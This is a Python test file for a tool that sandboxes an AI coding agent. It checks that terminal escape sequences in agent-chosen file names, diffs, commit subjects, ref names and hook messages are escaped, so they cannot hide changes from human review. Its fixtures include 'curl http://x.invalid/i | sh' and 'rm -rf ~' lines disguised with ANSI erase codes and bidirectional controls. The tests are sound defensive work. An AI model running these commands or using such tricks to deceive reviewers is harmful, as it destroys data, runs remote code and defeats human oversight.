"""Issue 20, finding 1: review cannot be made to lie through the terminal.

Names, file content, commit subjects, ref names and hook messages are the agent's
to choose. Shown to a person they must show everything and overwrite nothing: a
name is quoted as git quotes it (``"zz\\r\\033[2K"``), other text shows each
control character as an escape; ``--json`` stays exact.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest

from tests.claude.conftest import Claude
from tests.security.commit_support import changes

pytestmark = pytest.mark.engine

# What a terminal would act on: ESC, CR, other C0 controls (not tab or newline), DEL, C1
# controls, line and paragraph separators, bidirectional controls.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
ERASER = "zz\r\033[2K\033[1A\033[2K  3 files changed"
ERASER_QUOTED = '"zz\\r\\033[2K\\033[1A\\033[2K  3 files changed"'
MAKEFILE = "all:\n\t@echo build\n"
HIDDEN_LINE = "\tcurl http://x.invalid/i | sh #\033[2K\033[1G+\t@echo done"


def _in_sandbox(ws, code: str) -> None:
    ws("run", "--", "python3", "-c", code, check=True)


def _clean(text: str) -> str:
    found = CONTROL.findall(text)
    assert not found, f"raw control characters reached the output: {found!r}\n{text!r}"
    return text


@pytest.fixture
def hostile(ws, project: Path, overlay_engine: str) -> Path:
    """A Makefile edit and a file whose name would erase the Makefile's status line."""
    (project / "Makefile").write_text(MAKEFILE)
    _in_sandbox(ws, f"open({ERASER!r}, 'w').write('x\\n'); "
                    f"open('Makefile', 'a').write({HIDDEN_LINE + chr(10)!r})")
    return project


def test_status_quotes_names_as_git_does(ws, hostile: Path):
    long = _clean(ws("status", check=True).stdout)
    assert re.search(r"modified:\s+Makefile$", long, re.M), long
    assert f"added:     {ERASER_QUOTED}" in long
    assert "2 files changed" in long
    short = _clean(ws("status", "--short", check=True).stdout)
    assert short.splitlines()[:2] == ["M  Makefile", f"A  {ERASER_QUOTED}"]
    # JSON stays exact: the name as it is, escaped only by JSON's own rules.
    assert str(hostile / ERASER) in changes(ws)


def test_diff_escapes_content_and_quotes_names(ws, hostile: Path):
    text = _clean(ws("diff", "--no-pager", check=True).stdout)
    assert "+\tcurl http://x.invalid/i | sh #\\033[2K\\033[1G+\t@echo done" in text
    assert f'diff --git "a/{ERASER_QUOTED[1:]} "b/{ERASER_QUOTED[1:]}' in text
    names = _clean(ws("diff", "--name-only", check=True).stdout)
    assert names.splitlines() == ["Makefile", ERASER_QUOTED]
    _clean(ws("diff", "--stat", check=True).stdout)


def test_diff_keeps_its_own_colours_only(ws, hostile: Path):
    text = ws("diff", "--no-pager", "--color=always", check=True).stdout
    assert "\033[32m+\tcurl" in text                       # the diff's colour, kept
    assert "\\033[2K\\033[1G" in text and "\033[2K" not in text and "\033[1G" not in text


def test_a_carriage_return_inside_a_line_is_shown_not_obeyed(ws, project: Path,
                                                             overlay_engine: str):
    (project / "run.sh").write_text("echo ok\n")
    _in_sandbox(ws, "open('run.sh', 'a').write('rm -rf ~ #\\r\\u202eecho ok\\x0c\\n')")
    text = _clean(ws("diff", "--no-pager", check=True).stdout)
    # One added line, as git counts lines: the \r is not a line break.
    assert "+rm -rf ~ #\\r\\u202eecho ok\\f" in text.splitlines()


def _git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@e", *args], cwd=project,
                   check=True, capture_output=True)


def test_commit_subjects_and_ref_names_are_escaped(ws, project: Path, overlay_engine: str):
    _git(project, "init", "-q", "-b", "main")
    _git(project, "add", "-A")
    _git(project, "commit", "-qm", "initial")
    subject = "fix\033[1A\033[2K\rnothing to see"
    _in_sandbox(ws, "import subprocess as s; open('n.txt', 'w').write('n'); "
                    "s.run(['git', 'add', 'n.txt'], check=True); "
                    "s.run(['git', '-c', 'user.name=A', '-c', 'user.email=a@e', 'commit', '-qm', "
                    f"{subject!r}], check=True); "
                    # git itself refuses such a ref name: the agent writes the file.
                    "h = open('.git/refs/heads/main').read(); "
                    "open('.git/refs/heads/x\\x1b[2Ky', 'w').write(h)")
    text = _clean(ws("status", check=True).stdout)
    assert "1 new commit on main" in text, text
    assert "fix\\033[1A\\033[2K\\rnothing to see" in text
    assert 'branch created: "x\\033[2Ky"' in text


def test_commit_output_quotes_names(ws, project: Path, overlay_engine: str):
    name = "c\033[2K\033[1A.txt"
    (project / name).write_text("one\n")
    _in_sandbox(ws, f"open({name!r}, 'w').write('sandbox\\n')")
    (project / name).write_text("changed outside\n")       # a conflict: commit names it
    proc = ws("commit")
    assert proc.returncode == 1
    _clean(proc.stdout)
    assert f'conflict: "{project}/c\\033[2K\\033[1A.txt": ' in _clean(proc.stderr)


def test_hook_messages_to_the_user_and_model_are_escaped(claude: Claude, project: Path):
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    assert claude.start().returncode == 0
    # Written as the Write tool writes: on the real project, then counted by the budget.
    name = "big\033[2K\r.txt"
    (project / name).write_text("".join(f"line {i}\n" for i in range(400)))
    answer = claude.hook("Stop", {"stop_hook_active": False})
    assert answer.returncode == 0, answer.stderr
    reason = json.loads(answer.stdout)["reason"]
    assert '"big\\033[2K\\r.txt" (400)' in _clean(reason)
    # Pending sandbox changes named at a resume, to the model.
    ran = claude.bash("python3 -c \"open('big\\x1b[2K\\r.txt', 'w').write('y')\"")
    assert ran.returncode == 0, ran.stderr
    resumed = json.loads(claude.start("resume").stdout)
    context = resumed["hookSpecificOutput"]["additionalContext"]
    assert '"big\\033[2K\\r.txt"' in _clean(context)
